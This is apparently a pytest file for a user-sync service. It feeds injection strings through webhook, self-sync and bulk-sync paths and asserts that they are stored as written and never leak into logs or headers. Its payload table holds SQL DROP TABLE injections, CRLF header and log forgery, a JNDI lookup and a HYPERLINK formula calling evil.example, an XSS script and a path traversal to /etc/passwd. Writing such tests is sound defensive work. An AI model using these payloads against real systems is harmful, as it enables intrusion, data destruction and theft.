"""SQL, log lines and headers, smuggled into every field that a user may fill."""

import json
from typing import Any

import pytest

from clerksync.bulk.request import BulkSyncRequest
from clerksync.bulk.run import BulkSync
from tests.doors import api_request
from tests.integration.functions.self_sync.door import ME, SYNC
from tests.people import user_id, user_json
from tests.strangers.stack import Stack
from tests.tables import rows

SMUGGLED = {
    "SQL, a quote": "'; DROP TABLE users; --",
    "SQL, a backslash": "\\'; DROP TABLE users; --",
    "SQL, dollars": "$$; DROP TABLE users; $$",
    "SQL, a placeholder": "%s %(id)s %% {} {0} :id",
    "COPY, the end": "\\.",
    "COPY, NULL": "\\N",
    "COPY, a row": "a\tb\nuser_x\t1",
    "JSON": '", "tier": "PRO", "x": "',
    "a log line": '"}\n{"level":"ERROR","message":"forged"',
    "a header": "a\r\nset-cookie: admin=1",
    "a terminal": "\x1b[2J\x1b]0;title\x07",
    "a template": "${jndi:ldap://evil.example/a} {{7*7}}",
    "HTML": "<script>alert(1)</script>",
    "a formula": '=HYPERLINK("https://evil.example")',
    "text that runs backwards": "\u202eevil\u2066",
    "a path": "../../../../etc/passwd",
}
FIELDS = ("first_name", "last_name", "username", "image_url")


def filled_in(text: str, number: int = 1) -> dict[str, Any]:
    """A user who has written it wherever users may write."""
    user = user_json(number, email=text, version=9)
    phone = {"id": "idn_phone", "phone_number": text}
    return (
        user
        | dict.fromkeys(FIELDS, text)
        | {
            "phone_numbers": [phone],
            "primary_phone_number_id": "idn_phone",
            "public_metadata": {text: [text, {text: text}]},
            "unsafe_metadata": {text: text},
            "external_id": text,
        }
    )


@pytest.mark.parametrize("name", SMUGGLED)
def test_what_a_user_writes_is_stored_as_it_is(stack: Stack, name: str) -> None:
    """A text is a text: by the webhook's way, and nothing of it is in the log."""
    text = SMUGGLED[name]
    event = json.dumps(stack.clerk.event("user.created", filled_in(text))).encode()
    request = api_request(
        "POST", "/api/webhooks/clerk", body=event, headers=stack.clerk.sign(event)
    )
    assert stack.ask(request).status == 200
    assert_not_told(stack, text)
    row = rows(stack.connection)[user_id(1)]
    assert [row[field] for field in (*FIELDS, "email", "phone_number")] == [text] * 6
    assert row["public_metadata"] == {text: [text, {text: text}]}
    assert row["tier"] == "FREE"


@pytest.mark.parametrize("name", SMUGGLED)
def test_what_clerk_says_of_a_user_is_stored_as_it_is(stack: Stack, name: str) -> None:
    """By self-sync's way; the answer shows it to the user, and the log to nobody."""
    text = SMUGGLED[name]
    changes: dict[str, Any] = dict.fromkeys((*FIELDS, "email"), text)
    stack.clerk.update_user(stack.user_id, public_metadata={text: text}, **changes)
    headers = {"authorization": f"Bearer {stack.self_syncs.token()}"}
    answer = stack.ask(api_request("POST", SYNC, headers=headers))
    assert answer.status == 200
    assert answer.body["user"]["first_name"] == answer.body["user"]["email"] == text
    assert_not_told(stack, text)
    assert rows(stack.connection)[stack.user_id]["first_name"] == text


def test_what_a_listing_says_of_users_is_stored_as_it_is(
    stack: Stack, full_run: BulkSync
) -> None:
    """By bulk sync's way, which is COPY: all of them in one batch."""
    written = {}
    for text in SMUGGLED.values():
        fields: dict[str, Any] = dict.fromkeys((*FIELDS, "email"), text)
        user = stack.clerk.create_user(public_metadata={text: [text]}, **fields)
        written[user["id"]] = text
    report = full_run.run(BulkSyncRequest())
    assert (report.status, report.created) == ("completed", len(SMUGGLED))
    stored = rows(stack.connection)
    for clerk_id, text in written.items():
        row = stored[clerk_id]
        assert [row[field] for field in (*FIELDS, "email")] == [text] * 5
        assert row["public_metadata"] == {text: [text]}
        assert_not_told(stack, text)


@pytest.mark.parametrize("name", SMUGGLED)
def test_what_a_request_carries_is_not_told(stack: Stack, name: str) -> None:
    """In headers, cookies, the query, ids and bodies; not even a refusal repeats it."""
    text = SMUGGLED[name]
    body = json.dumps({"userId": text, "email": text}).encode()
    headers = {"svix-id": text, "user-agent": text, "x-forwarded-for": text, text: text}
    for method, path in (("GET", ME), ("POST", SYNC), ("POST", "/api/webhooks/clerk")):
        for token in (text, stack.self_syncs.token(sub=text)):
            request = api_request(
                method,
                path,
                body=body if method == "POST" else b"",
                headers=headers | {"authorization": f"Bearer {token}"},
                cookies=[f"__session={text}", text],
            )
            answer = stack.ask(request | {"rawQueryString": text})
            assert answer.status in {400, 401}
            assert_not_told(stack, text)
            assert not any(set("\r\n") & set(v) for v in answer.headers.values())


def assert_not_told(stack: Stack, text: str) -> None:
    """Neither as it is nor as JSON writes it, in the log of the last request."""
    log = stack.log.getvalue()
    assert text not in log
    assert json.dumps(text)[1:-1] not in log
    # One line is one JSON object: nobody has begun another.
    assert all(isinstance(json.loads(line), dict) for line in log.splitlines())
